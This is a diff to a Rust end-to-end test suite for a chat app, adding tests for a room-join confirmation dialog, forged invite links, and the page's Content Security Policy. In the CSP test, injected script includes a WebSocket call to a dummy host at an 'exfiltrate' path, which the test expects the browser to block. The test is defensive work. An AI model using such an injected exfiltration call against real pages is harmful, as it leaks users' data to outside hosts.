@@ -334,10 +334,21 @@ async fn two_people_on_different_nodes_chat_share_a_private_room_and_a_third_can
     let invite = link.rsplit("invite=").next().unwrap();
     assert!(invite.len() >= 22, "an invite of at least 128 bits: {link}");
 
-    // Bob opens the link and is in.
+    // Bob opens the link: the page asks first (joining shows his name to the room), naming
+    // the room as text, and he is not in it until he says yes.
     bob.goto(&link).await;
-    bob.wait_text(T, "#room-title", "secret plans").await;
     let bob_node = wait_connected(&bob).await;
+    bob.wait_js(
+        T,
+        "the join question",
+        "return !document.getElementById('join-dialog').hidden \
+           && document.getElementById('join-room').textContent === 'secret plans';",
+        vec![],
+    )
+    .await;
+    assert_ne!(status(&bob, "#room-title").await, "secret plans");
+    bob.click("#join-accept").await;
+    bob.wait_text(T, "#room-title", "secret plans").await;
     let bob_node = if bob_node == alice_node {
         // Opening the link reloaded the page onto Alice's node: move, then pick the room
         // from the list (membership is kept by the server).
@@ -420,6 +431,30 @@ async fn two_people_on_different_nodes_chat_share_a_private_room_and_a_third_can
     assert!(!listed_rooms(&carol)
         .await
         .contains(&"secret plans".to_owned()));
+    // A link she declines leaves her where she was, without asking the server anything.
+    carol.goto(&format!("{url}#room=secret+plans")).await;
+    wait_connected(&carol).await;
+    let join_question = "return document.getElementById('join-dialog').hidden ? null \
+                         : document.getElementById('join-room').textContent;";
+    let asked = carol
+        .wait_js(T, "the join question", join_question, vec![])
+        .await;
+    assert_eq!(asked, json!("secret plans"));
+    carol.click("#join-decline").await;
+    carol
+        .wait_js(
+            T,
+            "the question gone",
+            "return document.getElementById('join-dialog').hidden;",
+            vec![],
+        )
+        .await;
+    assert_eq!(status(&carol, "#room-title").await, "lobby");
+    assert!(carol
+        .js("return document.getElementById('notice').hidden;", vec![])
+        .await
+        .as_bool()
+        .unwrap());
     for forged in [
         "#room=secret+plans",
         "#room=secret+plans&invite=AAAAAAAAAAAAAAAAAAAAAA",
@@ -430,6 +465,10 @@ async fn two_people_on_different_nodes_chat_share_a_private_room_and_a_third_can
             .await;
         carol.goto(&format!("{url}{forged}")).await;
         wait_connected(&carol).await;
+        carol
+            .wait_js(T, "the join question", join_question, vec![])
+            .await;
+        carol.click("#join-accept").await;
         carol
             .wait_js(
                 T,
@@ -706,7 +745,10 @@ async fn a_refused_name_is_explained_and_the_identity_survives_a_reload() {
     assert_eq!(mine, json!("remember me"), "own messages are marked");
 
     // The browser enforces the page's CSP: injected inline code and styles are refused, and
-    // reported (so the recorder behind `close_clean` would notice any from the page itself).
+    // so is a WebSocket to any host but the page's own (where an injected script would send
+    // what it read); each is reported (so the recorder behind `close_clean` would notice any
+    // from the page itself). The page's own WebSocket, to its own host, is allowed: the
+    // other tests chat over it.
     let ran = hana
         .js(
             "window.__ran = false; \
@@ -714,6 +756,7 @@ async fn a_refused_name_is_explained_and_the_identity_survives_a_reload() {
              s.textContent = 'window.__ran = true'; \
              document.body.append(s); \
              document.body.setAttribute('style', 'background: red'); \
+             try { new WebSocket('ws://127.0.0.2:9/exfiltrate'); } catch (e) {} \
              return window.__ran;",
             vec![],
         )
@@ -721,9 +764,10 @@ async fn a_refused_name_is_explained_and_the_identity_survives_a_reload() {
     assert_eq!(ran, json!(false), "an inline script ran");
     hana.wait_js(
         T,
-        "both violations reported",
+        "three violations reported",
         "const p = window.__problems.join('\\n'); \
-         if (!p.includes('csp: script-src') || !p.includes('csp: style-src')) return null; \
+         if (!p.includes('csp: script-src') || !p.includes('csp: style-src') \
+             || !p.includes('csp: connect-src blocked ws://127.0.0.2:9')) return null; \
          window.__problems.length = 0; return true;",
         vec![],
     )
